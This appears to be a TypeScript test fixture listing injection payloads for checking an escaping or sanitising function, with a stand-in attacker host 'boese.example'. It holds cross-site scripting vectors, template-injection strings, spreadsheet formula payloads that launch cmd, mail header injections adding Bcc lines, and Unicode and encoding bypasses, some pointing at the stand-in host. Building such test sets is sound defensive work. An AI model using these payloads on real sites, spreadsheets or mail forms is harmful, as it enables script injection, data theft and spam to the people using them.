/** The host that a payload would contact if it took effect. */
export const attackerHost = 'boese.example'

const alert = 'alert(1)'
const remote = `//${attackerHost}/x`

/** Texts that would become script, markup, a formula or a header line if they were not escaped. */
export const scriptPayloads: readonly string[] = [
  // Elements
  `<script>${alert}</script>`,
  `<ScRiPt>${alert}</sCrIpT>`,
  `<script src=${remote}.js></script>`,
  `</script><script>${alert}</script>`,
  `</textarea><script>${alert}</script>`,
  `</title><svg onload=${alert}>`,
  `<scr<script>ipt>${alert}</script>`,
  `<iframe src="javascript:${alert}"></iframe>`,
  `<iframe srcdoc="<script>${alert}</script>">`,
  `<object data="javascript:${alert}">`,
  `<embed src="javascript:${alert}">`,
  `<link rel=stylesheet href=${remote}.css>`,
  `<style>@import "${remote}.css"</style>`,
  `<meta http-equiv=refresh content="0;${remote}">`,
  `<base href=${remote}>`,
  `<form action=${remote}><button>OK</button></form>`,
  // Attributes
  `<img src=x onerror=${alert}>`,
  `<img src=${remote}.png>`,
  `<img/src/onerror=${alert}>`,
  `"><img src=x onerror=${alert}>`,
  `'><img src=x onerror=${alert}>`,
  `" onmouseover="${alert}`,
  `' onfocus='${alert}' autofocus='`,
  `x" style="animation:x" onanimationstart="${alert}`,
  `<body onload=${alert}>`,
  `<input autofocus onfocus=${alert}>`,
  `<details open ontoggle=${alert}>`,
  `<video><source onerror=${alert}></video>`,
  `<marquee onstart=${alert}>`,
  `<a href="javascript:${alert}">hier</a>`,
  `<a href="java\tscript:${alert}">hier</a>`,
  `<a href="data:text/html,<script>${alert}</script>">`,
  // SVG and MathML
  `<svg onload=${alert}>`,
  `<svg><script>${alert}</script></svg>`,
  `<svg><animate onbegin=${alert} attributeName=x>`,
  `<svg><use href="${remote}.svg#x"/></svg>`,
  `<math><mtext></mtext><script>${alert}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${alert}>">`,
  // Addresses, templates, expressions
  `javascript:${alert}`,
  `data:text/html,<script>${alert}</script>`,
  `{{constructor.constructor('${alert}')()}}`,
  `\${${alert}}`,
  `<%= ${alert} %>`,
  `#{${alert}}`,
  `$& $' $\` %PRODUCT_NAME% %SITE%`,
  `';${alert};//`,
  `*/${alert}/*`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"x"}}}`,
  // Formulas of tables
  `=HYPERLINK("http://${attackerHost}";"hier")`,
  `+cmd|' /C calc'!A1`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  // Lines of a mail
  `Clara\r\nBcc: opfer@${attackerHost}`,
  `Clara\nSubject: Gewonnen\n\n<h1>Gewonnen</h1>`,
  `Clara\u2028Bcc: opfer@${attackerHost}`,
  `=?utf-8?q?=0D=0ABcc:_opfer=40${attackerHost}?=`,
  // Unicode
  `\u202Egpj.exe<img src=x onerror=${alert}>`,
  `＜script＞${alert}＜/script＞`,
  `\u2039script\u203A${alert}\u2039/script\u203A`,
  `+ADw-script+AD4-${alert}+ADw-/script+AD4-`,
  `%3Cscript%3E${alert}%3C/script%3E`,
  `&lt;script&gt;${alert}&lt;/script&gt;&#60;b&#62;`,
]
